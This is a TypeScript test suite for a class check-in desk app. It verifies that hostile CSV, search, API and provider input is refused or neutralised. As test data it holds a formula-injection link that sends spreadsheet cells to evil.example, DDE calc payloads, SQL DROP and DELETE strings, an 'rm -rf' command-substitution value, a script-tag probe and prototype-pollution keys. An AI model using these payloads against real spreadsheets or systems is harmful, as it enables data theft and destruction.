/**
 * Hostile input, from the page and from the network: each gets a clear error (or is handled
 * harmlessly), nothing the desk holds is lost or changed by it, and the desk keeps answering.
 *
 * - CSV formula injection: neutralised in every exported column a person controls;
 * - 10,000-character names refused with the line number; a 70,000-character row too, the rest read;
 * - RTL, CJK, emoji and combining text round-trip through import → search → export unchanged;
 * - search strings made of FTS5 syntax, quotes and SQL never fail and never change anything;
 * - every contract call (CALL_NAMES) sent null, numbers, arrays, nested junk, wrong field types and
 *   extra keys: each answers invalid_input, nothing changes, nothing is polluted;
 * - a 70 MB CSV string: a clear error, nothing changed — through the dispatcher and over HTTP;
 *   a 20 MB body (with or without a length): the web transport's 413 with a clear reason, the
 *   desk keeps answering, and the largest legitimate import still fits under the cap;
 * - party sizes 0, −1, 1001, 1.5 in calls and in CSV files;
 * - malformed and wrongly-typed provider JSON, and a 50 MB participation page: the desk reports an
 *   error, stays up, keeps its queue and replica.
 */
import { existsSync, readFileSync } from 'node:fs'
import { request } from 'node:http'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterEach, describe, expect, it } from 'vitest'
import { contract, CALL_NAMES, LIMITS, type CallName } from '../../src/shared/contract'
import { DEFAULT_BACKOFF } from '../../src/main/sync/engine'
import { startWebDesk } from '../../src/main/web/server'
import { startFakeWix, type FakeWix } from '../fakes/wix'
import { errorsText, lineText, tempDir, testDesk, waitFor, ZONE } from './helpers'
import { connectWix, localMark, NS, pullEverything, seedWorld, sleep, openSimDesk, type SimDesk } from './sim/wix-world'

const DAY = '2026-07-06'
const HEADER = 'Name,Email,Phone,Party size,Booking id,Session,Start'
const row = (name: string, extra: Partial<{ email: string; phone: string; party: string; id: string; session: string }> = {}) =>
  [name, extra.email ?? '', extra.phone ?? '', extra.party ?? '1', extra.id ?? '', extra.session ?? 'Hostile class', '2026-07-06 09:00'].map(csvCell).join(',')
const csvCell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)
const csvOf = (...rows: string[]) => [HEADER, ...rows].join('\r\n')

const closers: (() => Promise<void> | void)[] = []
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close()
})

/** Everything a desk holds: every table (search shadow tables aside) and its settings files. */
function snapshot(t: { desk: { db: { $client: import('better-sqlite3').Database } } }, dataDir: string): string {
  const sqlite = t.desk.db.$client
  const tables = sqlite
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE 'participation_search%' ORDER BY name")
    .pluck()
    .all() as string[]
  const data = Object.fromEntries(tables.map((name) => [name, sqlite.prepare(`SELECT * FROM "${name}" ORDER BY rowid`).raw().all()]))
  const files = ['settings.json', 'secrets.json'].map((f) => (existsSync(join(dataDir, f)) ? readFileSync(join(dataDir, f), 'utf8') : null))
  return JSON.stringify({ data, files })
}

async function studioDesk() {
  const t = testDesk()
  const csv = csvOf(
    row('Zoë Müller', { email: 'zoe@example.com', phone: '+49 170 1234567', party: '3', id: 'BK-1' }),
    row('Ben Okafor', { email: 'ben@example.com', party: '2', id: 'BK-2' }),
    row('Chidi Anagonye', { party: '1', id: 'BK-3' })
  )
  const result = await t.call('import.commit', { csv, timeZone: ZONE })
  const sessionId = result.sessionIds[0]!
  const { rows } = await t.call('roster.page', { sessionId, search: '', offset: 0, limit: 50 })
  return { t, sessionId, rows }
}

describe('hostile CSV', () => {
  it('neutralises formula injection in every exported column a person controls', async () => {
    const t = testDesk()
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '=1+1']
    const csv = csvOf(
      ...payloads.map((p, i) => row(p, { email: `p${i}@example.com`, id: i === 1 ? '=1+2' : `-${i}`, phone: i === 2 ? '+49 30 123' : '' })),
      row('Plain Person', { email: 'plain@example.com', id: '@home' })
    )
    const { sessionIds } = await t.call('import.commit', { csv, timeZone: ZONE, skipInvalidRows: true })
    await t.call('sessions.create', { title: '=cmd|"/C calc"!A0', startsAt: '2026-07-06T10:00:00+02:00', endsAt: '2026-07-06T11:00:00+02:00', timeZone: ZONE, capacity: null })
    for (const file of [await t.call('export.roster', { sessionId: sessionIds[0]! }), await t.call('export.roster', { date: DAY, timeZone: ZONE })]) {
      const records = parse(file.csv, { bom: true, relax_column_count: true }) as string[][]
      expect(records.length).toBeGreaterThan(1)
      for (const record of records) for (const cell of record) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
      const names = records.slice(1).map((r) => r[3])
      for (const p of payloads) expect(names).toContain(`'${p}`)
    }
  })

  it('refuses a 10,000-character name with its line number; a 70,000-character row too; the other rows are read', async () => {
    const { t, sessionId } = await studioDesk()
    const before = snapshot(t, t.dataDir)
    const long = 'A'.repeat(10_000)
    const csv = csvOf(row('Good One'), row(long), row('Good Two'), row('B'.repeat(70_000)), row('Good Three'), row(`${'C'.repeat(150)} ${'D'.repeat(60)}`))
    const preview = await t.call('import.preview', { csv, timeZone: ZONE })
    expect(preview.errors).toEqual([
      { line: 3, problems: [{ reason: 'name_too_long', params: { max: LIMITS.name } }] },
      {
        line: 5,
        problems: [{ reason: 'csv_record_too_long', params: { max: LIMITS.csvRecordChars } }]
      },
      { line: 7, problems: [{ reason: 'name_too_long', params: { max: LIMITS.name } }] }
    ])
    expect(preview.validRows).toBe(3)
    expect(JSON.stringify(preview).length).toBeLessThan(20_000) // no echo of the monster cells
    const refused = await t.fail('import.commit', { csv, timeZone: ZONE })
    expect(refused).toMatchObject({ code: 'invalid_input', reason: 'import_row_errors', params: { count: 3, line: 3 }, message: expect.stringMatching(/3 rows have errors \(first: line 3: name is longer than 200 characters\)\. Nothing was imported\./) })
    expect(refused.issues?.map((i) => i.path)).toEqual(['line 3', 'line 5', 'line 7'])
    expect(snapshot(t, t.dataDir)).toBe(before)
    const partial = await t.call('import.commit', { csv, timeZone: ZONE, skipInvalidRows: true })
    expect(partial.created).toBe(3)
    const names = (await t.call('roster.page', { sessionId, search: '', offset: 0, limit: 50 })).rows.map((r) => r.name)
    expect(names).toEqual(expect.arrayContaining(['Good One', 'Good Two', 'Good Three']))
    expect(names.every((n) => n.length <= LIMITS.name)).toBe(true)
  })

  it('round-trips RTL, CJK, emoji and combining text through import → search → export', async () => {
    const t = testDesk()
    const people: [string, string][] = [
      ['محمد الأحمد', 'محمد'],
      ['שרה כהן', 'שרה'],
      ['张伟', '张'],
      ['Zoë 🎉 Müller', 'muller'],
      ['👩‍👩‍👧‍👦 Family Smith', 'family'],
      ['Ñandú Ñoño', 'nandu'],
      // Greek typed with its accents finds Greek (the desk's fold strips every accent mark).
      ['Σίσυφος Παπαδόπουλος', 'σίσυφος'],
      ['Dr. Amélie O\'Brien-Łukasiewicz', 'łukasiewicz'],
      ['\u202Eevil\u202C Bidi', 'bidi'],
      ['Zürich-Straße', 'straße'],
      ['e\u0301mile Decomposed', 'decomposed']
    ]
    const csv = csvOf(...people.map(([name], i) => row(name, { email: `u${i}@example.com` })))
    const { sessionIds } = await t.call('import.commit', { csv, timeZone: ZONE })
    const sessionId = sessionIds[0]!
    const misses: string[] = []
    for (const [name, query] of people) {
      const found = (await t.call('roster.page', { sessionId, search: query, offset: 0, limit: 50 })).rows.map((r) => r.name)
      if (!found.includes(name)) misses.push(`"${query}" did not find ${name} (found ${JSON.stringify(found)})`)
    }
    expect(misses).toEqual([])
    const exported = parse((await t.call('export.roster', { sessionId })).csv, { bom: true, columns: true }) as Record<string, string>[]
    expect(exported.map((r) => r.Name).sort()).toEqual(people.map(([name]) => name).sort())
  })
})

describe('hostile search', () => {
  it('FTS syntax, quotes and SQL in a search never fail, never match by accident and change nothing', async () => {
    const { t, sessionId } = await studioDesk()
    const before = snapshot(t, t.dataDir)
    const nasty = [
      '"', '""', '"""', "'", "''", '*', '**', 'a*', '*a', '"zoë', 'zoë"', '"zoë"*', '^zoe', '-zoe', '+zoe', 'zoe OR ben', 'OR', 'AND', 'NOT', 'NEAR',
      'NEAR(zoe ben)', 'NEAR(zoe ben, 0)', 'zoe NOT ben', 'zoe AND', 'AND zoe', '(zoe', 'zoe)', '()', '{name email}: zoe', 'name:zoe', 'name : zoe', ':', 'participation_search:zoe',
      '[a]', 'a + b', '\\', '\u0000', '\u0000zoe', '%', '_', '%_%', "'; DROP TABLE participations; --", '"); DELETE FROM participations; --', 'zoe\' OR 1=1 --',
      '1=1', 'müller OR 1=1', 'a'.repeat(LIMITS.search), 'x '.repeat(100), '🎉', '\u202E', '\u0301', 'ـ', '\t\n\r zoe \n', 'zoe* ben*', 'rowid', 'rank', 'bm25(participation_search)',
      '*:*', 'a\u0000b', '%00', '$(rm -rf /)', '<script>alert(1)</script>'
    ]
    for (const search of nasty) {
      const answer = await t.dispatch('roster.page', { sessionId, search, offset: 0, limit: 50 })
      expect(answer.ok, `search ${JSON.stringify(search)}: ${JSON.stringify(answer)}`).toBe(true)
      const rows = (answer as { ok: true; value: { rows: { name: string }[]; total: number } }).value
      expect(rows.total).toBeLessThanOrEqual(3)
    }
    // Quotes and operators around a real name still find it, and only it.
    for (const search of ['"zoë', 'zoë"', '"zoë"*', '(zoe)', '-zoe', "zoe'", 'zoe*', '^zoe', 'müller"']) {
      expect((await t.call('roster.page', { sessionId, search, offset: 0, limit: 50 })).rows.map((r) => r.name), search).toEqual(['Zoë Müller'])
    }
    // An operator word is searched for as a word, never as an operator that matches everyone.
    expect((await t.call('roster.page', { sessionId, search: 'zoe OR ben', offset: 0, limit: 50 })).total).toBe(0)
    expect(await t.fail('roster.page', { sessionId, search: 'a'.repeat(LIMITS.search + 1), offset: 0, limit: 50 })).toMatchObject({ code: 'invalid_input' })
    expect(snapshot(t, t.dataDir)).toBe(before)
  })
})

describe('hostile calls', () => {
  it('every contract call, sent junk of every shape, answers invalid_input and changes nothing', async () => {
    const { t, sessionId, rows } = await studioDesk()
    const participationId = rows[0]!.participationId
    const csv = csvOf(row('Someone New'))
    // A valid input per call (where one exists without side effects on junk), to mutate field by field.
    const valid: Partial<Record<CallName, Record<string, unknown>>> = {
      'desk.info': {},
      'sessions.forDay': { date: DAY, timeZone: ZONE },
      'sessions.get': { sessionId },
      'sessions.create': { title: 'New', startsAt: '2026-07-06T12:00:00+02:00', endsAt: '2026-07-06T13:00:00+02:00', timeZone: ZONE, capacity: 10 },
      'roster.page': { sessionId, search: '', offset: 0, limit: 10 },
      'roster.counts': { sessionId },
      'attendance.checkIn': { sessionId, participationId, attendees: 1 },
      'attendance.undo': { sessionId, participationId },
      'attendance.noShow': { sessionId, participationId },
      'import.preview': { csv, timeZone: ZONE },
      'import.commit': { csv, timeZone: ZONE },
      'export.roster': { sessionId },
      'sync.status': {},
      'sync.now': {},
      'sync.problems': {},
      'sync.resolve': { opId: 'op', choice: 'retry' },
      'settings.get': {},
      'settings.save': { provider: 'wix', wix: { siteId: 'site', apiKey: 'key', baseUrl: 'https://www.wixapis.com', namespace: NS } },
      'settings.testConnection': { provider: 'local' }
    }
    const polluting = JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}') as object
    const wholeJunk: unknown[] = [
      null, undefined, 0, 42, -1, 1.5, Number.NaN, Number.POSITIVE_INFINITY, '', 'desk.info', true, false, 10n, new Date(0), [], [1, 2, 3], [{}], [valid['sessions.get']],
      { a: { b: { c: [1, { d: null, e: [[[[]]]] }] } } }, polluting, new Map([['sessionId', 1]]), new Uint8Array(8), Object.create(null)
    ]
    const fieldJunk: unknown[] = [null, '1', '', 1.5, -1, 0, 2 ** 53, Number.NaN, -0, [], [1], {}, { $gt: 0 }, true, 'x'.repeat(100_000), 10n]

    const before = snapshot(t, t.dataDir)
    const wrong: string[] = []
    let sent = 0
    const expectInvalid = async (name: CallName, payload: unknown, label: string) => {
      sent++
      const answer = await t.dispatch(name, payload)
      if (answer.ok || answer.error.code !== 'invalid_input') wrong.push(`${name} ${label}: ${JSON.stringify(answer).slice(0, 200)}`)
    }
    for (const name of CALL_NAMES) {
      const schema = contract[name].input
      for (const [i, junk] of wholeJunk.entries()) {
        // Object.create(null) is `{}`: valid for the calls that take no input.
        if (schema.safeParse(junk).success) continue
        await expectInvalid(name, junk, `whole payload #${i}`)
      }
      const base = valid[name]
      if (!base) continue
      await expectInvalid(name, { ...base, extra: 1 }, 'with an extra key')
      await expectInvalid(name, { ...base, ...polluting }, 'with __proto__/constructor keys')
      const fields = Object.keys(base).length ? Object.keys(base) : []
      for (const field of fields) {
        for (const [i, junk] of fieldJunk.entries()) {
          const mutated = { ...base, [field]: junk }
          if (schema.safeParse(mutated).success) continue // e.g. a nullable field given null
          await expectInvalid(name, mutated, `${field} = junk #${i}`)
        }
        const { [field]: _dropped, ...without } = base
        if (!schema.safeParse(without).success) await expectInvalid(name, without, `without ${field}`)
      }
    }
    expect(wrong).toEqual([])
    expect(sent).toBeGreaterThan(CALL_NAMES.length * 15)
    expect(snapshot(t, t.dataDir)).toBe(before)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect((await t.call('desk.info', {})).provider).toBe('local')
  })

  it('refuses party sizes 0, −1, 1001 and fractions, in calls and in CSV files', async () => {
    const { t, sessionId, rows } = await studioDesk()
    const before = snapshot(t, t.dataDir)
    for (const attendees of [0, -1, LIMITS.partySize + 1, 1.5, '2', null]) {
      const error = await t.fail('attendance.checkIn', { sessionId, participationId: rows[0]!.participationId, attendees })
      expect(error.code, String(attendees)).toBe('invalid_input')
      expect(error.issues?.[0]?.path).toBe('attendees')
    }
    for (const capacity of [0, -1, 100_001, 2.5]) {
      expect((await t.fail('sessions.create', { title: 'X', startsAt: '2026-07-06T12:00:00Z', endsAt: '2026-07-06T13:00:00Z', timeZone: ZONE, capacity })).code).toBe('invalid_input')
    }
    expect(snapshot(t, t.dataDir)).toBe(before)
    const csv = csvOf(...['0', '-1', '1001', '1.5', 'two', '1e3', '0x10', ' 2 ', '', '1000'].map((party, i) => row(`Party ${i}`, { party })))
    const preview = await t.call('import.preview', { csv, timeZone: ZONE })
    expect(preview.errors.map((e) => e.line)).toEqual([2, 3, 4, 5, 6, 7, 8])
    for (const e of preview.errors) expect(lineText(e)).toMatch(/party size must be a whole number from 1 to 1000/)
    expect(preview.sample.map((s) => s.partySize)).toEqual([2, 1, 1000])
  })
})

describe('oversized payloads', () => {
  it('a 70 MB CSV gets a clear error and changes nothing, through the dispatcher and over HTTP', async () => {
    const { t } = await studioDesk()
    const before = snapshot(t, t.dataDir)
    const line = `${row('Filler Person', { email: 'filler@example.com' })}\r\n`
    const huge = HEADER + '\r\n' + line.repeat(Math.ceil((70 * 1024 * 1024) / line.length))
    expect(huge.length).toBeGreaterThan(70 * 1024 * 1024)
    for (const name of ['import.preview', 'import.commit'] as const) {
      const error = await t.fail(name, { csv: huge, timeZone: ZONE })
      expect(error).toMatchObject({ code: 'invalid_input', message: 'csv: the file is larger than 16 MB' })
    }
    expect(snapshot(t, t.dataDir)).toBe(before)

    const web = await startWebDesk({ dispatch: t.dispatch, port: 0, staticDir: tempDir(), log: () => {} })
    closers.push(() => web.close())
    const res = await fetch(`${web.url}api/import.commit`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${web.token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ csv: huge, timeZone: ZONE })
    })
    expect(res.status).toBe(413)
    expect(await res.json()).toMatchObject({ ok: false, error: { code: 'invalid_input', reason: 'request_too_large', params: { maxMb: 18 } } })
    expect(snapshot(t, t.dataDir)).toBe(before)
  })

  /** Posts `size` bytes of a JSON body to the desk, with a Content-Length or streamed without one. */
  function postBody(web: { port: number; token: string }, size: number, withLength: boolean): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      const headers: Record<string, string> = { Authorization: `Bearer ${web.token}`, 'Content-Type': 'application/json' }
      if (withLength) headers['Content-Length'] = String(size)
      else headers['Transfer-Encoding'] = 'chunked'
      const req = request({ host: '127.0.0.1', port: web.port, path: '/api/import.preview', method: 'POST', headers }, (res) => {
        const chunks: Buffer[] = []
        res.on('data', (c: Buffer) => chunks.push(c))
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }))
      })
      req.on('error', () => {}) // the server hangs up on the rest of the upload, by design
      const start = Buffer.from('{"csv":"')
      const chunk = Buffer.alloc(1024 * 1024, 0x61)
      let sent = start.length
      req.write(start)
      const pump = () => {
        while (sent < size) {
          const piece = chunk.subarray(0, Math.min(chunk.length, size - sent))
          sent += piece.length
          if (!req.write(piece)) return void req.once('drain', pump)
        }
        req.end()
      }
      pump()
      setTimeout(() => reject(new Error('no answer to an oversized upload')), 60_000).unref()
    })
  }

  it('a 20 MB body gets 413 with a clear message, with or without a length, and the desk keeps answering', async () => {
    const { t } = await studioDesk()
    const before = snapshot(t, t.dataDir)
    const web = await startWebDesk({ dispatch: t.dispatch, port: 0, staticDir: tempDir(), log: () => {} })
    closers.push(() => web.close())
    for (const withLength of [true, false]) {
      const answer = await postBody(web, 20 * 1000 * 1000, withLength)
      expect(answer.status).toBe(413)
      expect(JSON.parse(answer.body)).toEqual({
        ok: false,
        error: {
          code: 'invalid_input',
          message: 'This is more than the desk accepts at once (18 MB). Nothing was changed; split the file into smaller files.',
          reason: 'request_too_large',
          params: { maxMb: 18 }
        }
      })
      const info = await fetch(`${web.url}api/desk.info`, { method: 'POST', headers: { Authorization: `Bearer ${web.token}`, 'Content-Type': 'application/json' }, body: '{}' })
      expect(await info.json()).toMatchObject({ ok: true })
    }
    expect(snapshot(t, t.dataDir)).toBe(before)
  })

  it('the largest legitimate import fits under the cap: the two limits stay in step', async () => {
    expect(LIMITS.requestBytes).toBeGreaterThan(LIMITS.csvChars + 1024 * 1024)
    const { t } = await studioDesk()
    const web = await startWebDesk({ dispatch: t.dispatch, port: 0, staticDir: tempDir(), log: () => {} })
    closers.push(() => web.close())
    // A file of exactly the import limit, CRLF lines and a quoted value on each (what JSON escapes).
    const line = '"Filler, Person",filler@example.com,,1,,Big class,2026-07-06 09:00\r\n'
    const csv = (HEADER + '\r\n' + line.repeat(Math.ceil(LIMITS.csvChars / line.length))).slice(0, LIMITS.csvChars)
    const body = JSON.stringify({ csv, timeZone: 'Not/AZone' })
    expect(Buffer.byteLength(body)).toBeLessThan(LIMITS.requestBytes)
    const res = await fetch(`${web.url}api/import.preview`, { method: 'POST', headers: { Authorization: `Bearer ${web.token}`, 'Content-Type': 'application/json' }, body })
    // Read and handed to the desk, which answers about the file's fields, not the request's size.
    expect(res.status).toBe(200)
    const answer = (await res.json()) as { ok: boolean; error: { issues: { path: string }[] } }
    expect(answer.ok).toBe(false)
    expect(answer.error.issues.map((i) => i.path)).toEqual(['timeZone'])
  })

  // The same code path as the real limit (LIMITS.requestBytes), with a smaller one.
  it('a body over the limit streamed without a Content-Length: 413, and the desk keeps answering', async () => {
    const { t } = await studioDesk()
    const web = await startWebDesk({ dispatch: t.dispatch, port: 0, staticDir: tempDir(), log: () => {}, maxBodyBytes: 8 * 1024 * 1024 })
    closers.push(() => web.close())
    const status = await new Promise<number>((resolve, reject) => {
      const req = request(
        { host: '127.0.0.1', port: web.port, path: '/api/import.preview', method: 'POST', headers: { Authorization: `Bearer ${web.token}`, 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' } },
        (res) => {
          res.resume()
          resolve(res.statusCode ?? 0)
        }
      )
      req.on('error', () => {}) // the server hangs up on the rest of the upload, by design
      const chunk = Buffer.alloc(1024 * 1024, 0x61)
      let sentMb = 0
      const pump = () => {
        while (sentMb < 12) {
          sentMb++
          if (!req.write(chunk)) return void req.once('drain', pump)
        }
        req.end()
      }
      req.write('{"csv":"')
      pump()
      setTimeout(() => reject(new Error('no answer to an oversized upload')), 30_000).unref()
    })
    expect(status).toBe(413)
    const info = await fetch(`${web.url}api/desk.info`, { method: 'POST', headers: { Authorization: `Bearer ${web.token}`, 'Content-Type': 'application/json' }, body: '{}' })
    expect(await info.json()).toMatchObject({ ok: true })
  })
})

describe('hostile provider answers', () => {
  async function wixWorld(
    options: Parameters<typeof openSimDesk>[1] = {}
  ): Promise<{ fake: FakeWix; d: SimDesk; sessionId: number; participationId: number; pending: () => number; pullFailures: string[] }> {
    const fake = await startFakeWix({ seed: 11, timeZone: ZONE })
    closers.push(() => fake.close())
    seedWorld(fake, [{ title: 'Spin', bookings: false, people: 5, hour: 9 }])
    const pullFailures: string[] = []
    const d = openSimDesk(tempDir(), {
      providerTimeoutMs: 2_000,
      ...options,
      log: (message, err) => {
        if (message.startsWith('pull failed')) pullFailures.push(err instanceof Error ? err.message : String(err))
      }
    })
    closers.push(() => d.close())
    await connectWix(d, fake)
    const ids = await pullEverything(d)
    const sessionId = [...ids.sessionIds.values()][0]!
    const participationId = [...ids.participationIds.values()][0]!
    // One mark waits in the queue the whole time (its writes fail), so the queue can be checked.
    fake.faults.always({ type: 'status', status: 503 }, (r) => r.method === 'PATCH')
    await d.call('attendance.checkIn', { sessionId, participationId, attendees: 1 })
    const pending = () => d.desk.db.$client.prepare("SELECT count(*) FROM outbox WHERE state IN ('pending', 'in_flight')").pluck().get() as number
    return { fake, d, sessionId, participationId, pending, pullFailures }
  }

  const replicaOf = (d: SimDesk) => {
    const sqlite = d.desk.db.$client
    return JSON.stringify(['sessions', 'participations', 'attendance'].map((t) => sqlite.prepare(`SELECT * FROM ${t} ORDER BY id`).raw().all()))
  }

  it('malformed and wrongly-typed JSON pages: the desk says the download failed, stays up, keeps queue and replica', async () => {
    const { fake, d, sessionId, participationId, pending, pullFailures } = await wixWorld()
    const before = replicaOf(d)
    const deep = '['.repeat(200_000) + ']'.repeat(200_000)
    // [body, must the desk report it?] An answer shaped like an empty page may be read as one.
    const bodies: [string, boolean][] = [
      ['<html><body>502 Bad Gateway</body></html>', true],
      ['', true],
      ['null', true],
      ['[1,2,3]', false],
      ['{"participations": "nope"}', true],
      ['{"participations": {"0": {"id": "x"}}}', true],
      ['{"participations": [{"id": "p-x", "participant": {"name": {"first": "a"}}, "partySize": "many", "eventId": 7}]}', true],
      ['{"participations": [null, 1, "two", []]}', true],
      [deep, false],
      ['\u0000\u0001\u0002', true]
    ]
    const unreported: string[] = []
    for (const [body, mustReport] of bodies) {
      fake.faults.clear()
      fake.faults.always({ type: 'status', status: 503 }, (r) => r.method === 'PATCH')
      fake.faults.always({ type: 'malformed', body }, '/calendar/v3/participations/query')
      const failuresBefore = pullFailures.length
      await d.desk.sync.requestPull({ kind: 'session', sessionId })
      await d.desk.sync.idle()
      const status = await d.call('sync.status', {})
      const reported = pullFailures.length > failuresBefore
      if (mustReport) {
        expect(reported, `body ${JSON.stringify(body.slice(0, 60))} was not reported`).toBe(true)
        expect(errorsText(status)).toMatch(/download failed/i)
      } else if (!reported) unreported.push(body.slice(0, 60))
      expect(replicaOf(d), `body ${JSON.stringify(body.slice(0, 60))} changed the replica`).toBe(before)
      expect(pending()).toBe(1)
      expect(localMark(d.desk.db.$client, participationId, sessionId)).toEqual({ status: 'ATTENDED', attendees: 1 })
      expect((await d.call('desk.info', {})).provider).toBe('wix')
    }
    if (unreported.length) console.warn(`read as empty pages, without an error: ${JSON.stringify(unreported)}`)
    // Healed: the queue drains and the roster is pulled again.
    fake.faults.clear()
    await d.call('sync.now', {})
    await waitFor(async () => (await d.call('sync.status', {})).pending === 0, 10_000, 'the drain')
  })

  /**
   * KNOWN GAP, pinned: Wix paging follows `cursors.next` for up to 100,000 pages without checking
   * that it is a string that changes (src/main/providers/wix/index.ts, `pages()`). A service that
   * answers the same cursor again (or an object) keeps the desk downloading for hours, and new
   * marks are not sent meanwhile (pulls run inside the sync cycle). Wanted: a repeated or
   * non-string cursor ends the download with an error. When it does, turn `it.fails` into `it`.
   */
  it('a cursor that never moves ends the download with an error instead of 100,000 requests', async () => {
    // The desk's own backoff: the failed download is tried again on it (twice in these 3 s).
    const { fake, d, sessionId, pending } = await wixWorld({ backoff: { ...DEFAULT_BACKOFF, random: () => 0.5 } })
    const before = replicaOf(d)
    fake.faults.always({ type: 'malformed', body: '{"participations": [], "pagingMetadata": {"cursors": {"next": "same-cursor-again"}}}' }, '/calendar/v3/participations/query')
    void d.desk.sync.requestPull({ kind: 'session', sessionId })
    await sleep(3_000)
    const requests = fake.requests('POST /calendar/v3/participations/query').length
    expect(requests, `${requests} page requests for one roster`).toBeLessThan(10)
    expect(errorsText(await d.call('sync.status', {}))).toMatch(/download failed/i)
    expect(pending()).toBe(1)
    expect(replicaOf(d)).toBe(before)
  }, 30_000)

  /**
   * KNOWN GAP, pinned: the HTTP client reads any answer whole (src/main/providers/http.ts:
   * `response.text()`), so a 50 MB page is read, parsed and applied. Wanted: a cap per answer (a
   * real Wix page is well under 1 MB) that fails the download with a clear error, leaving the
   * replica as it was. When http.ts has the cap, turn `it.fails` into `it`.
   */
  it('a 50 MB participation page: the desk refuses it with a clear error, stays up, keeps queue and replica', async () => {
    const { fake, d, sessionId, pending } = await wixWorld()
    const before = replicaOf(d)
    const filler = 'x'.repeat(1000)
    const items = Array.from({ length: 50_000 }, (_, i) => `{"id":"huge-${i}","eventId":"e","participant":{"name":"Flood ${i} ${filler}"},"partySize":1,"revision":"1"}`)
    const body = `{"participations":[${items.join(',')}],"pagingMetadata":{"cursors":{}}}`
    expect(body.length).toBeGreaterThan(50 * 1000 * 1000)
    fake.faults.always({ type: 'malformed', body }, '/calendar/v3/participations/query')
    const started = Date.now()
    await d.desk.sync.requestPull({ kind: 'session', sessionId })
    await d.desk.sync.idle()
    expect(Date.now() - started).toBeLessThan(20_000)
    expect((await d.call('desk.info', {})).provider).toBe('wix')
    expect(pending()).toBe(1)
    expect(errorsText(await d.call('sync.status', {}))).toMatch(/too large|larger than/i)
    expect(replicaOf(d)).toBe(before)
  }, 60_000)
})
